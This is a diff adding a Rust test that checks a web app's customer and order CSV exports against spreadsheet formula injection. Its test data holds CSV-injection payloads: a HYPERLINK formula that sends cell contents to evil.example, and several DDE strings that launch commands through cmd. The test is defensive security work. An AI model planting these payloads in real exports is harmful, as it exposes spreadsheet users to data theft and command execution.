@@ -496,3 +496,90 @@ async fn a_sign_in_flood_is_counted_before_verifying_and_bounded_in_memory() {
     assert!(r.headers().contains_key("retry-after"));
     assert!(srv.peak_rss_mib() < 300);
 }
+
+// ---------------------------------------------------------------------------------------
+// 4. CSV exports
+
+/// Splits one CSV line into cells (RFC 4180 quoting).
+fn csv_cells(line: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cur.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => out.push(std::mem::take(&mut cur)),
+            (c, _) => cur.push(c),
+        }
+    }
+    out.push(cur);
+    out
+}
+
+#[tokio::test]
+async fn exports_write_formulas_as_text_and_phone_numbers_as_numbers() {
+    let app = TestApp::spawn().await;
+    let api = Api::of(&app, "admin").await;
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=cmd|' /C notepad'!A1",
+    ];
+    let (s, v) = api
+        .post(
+            "/api/v1/customers",
+            json!({"name": evil[0], "phones": ["90 123 45 67"], "address": evil[1], "email": "", "tags": evil[3]}),
+        )
+        .await;
+    assert_eq!(s, 201, "{v}");
+    let cid = v["id"].as_i64().unwrap();
+    new_order(
+        &api,
+        cid,
+        json!({"brand": evil[2], "model": evil[3], "serial": evil[4]}),
+    )
+    .await;
+    let web = app.login_admin().await;
+    for (path, planted) in [
+        ("/customers/export.csv", vec![evil[0], evil[1], evil[3]]),
+        (
+            "/orders/export.csv",
+            vec![evil[0], evil[2], evil[3], evil[4]],
+        ),
+    ] {
+        let body = web.get(path).await.text().await.unwrap();
+        let mut seen_phone = false;
+        for line in body.trim_start_matches('\u{feff}').split("\r\n").skip(1) {
+            for cell in csv_cells(line) {
+                let t = cell.trim_start();
+                let number = cell
+                    .strip_prefix(['+', '-'])
+                    .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()));
+                assert!(
+                    number
+                        || !(cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                            || t.starts_with(['=', '+', '-', '@'])),
+                    "{path}: a formula cell {cell:?} in {line:?}"
+                );
+                seen_phone |= cell == "+998901234567";
+            }
+        }
+        assert!(
+            seen_phone,
+            "{path}: the phone number stays a plain number: {body}"
+        );
+        for e in planted {
+            assert!(
+                body.contains(&format!("'{}", e.replace('"', "\"\""))),
+                "{path} keeps {e:?} as text: {body}"
+            );
+        }
+    }
+}
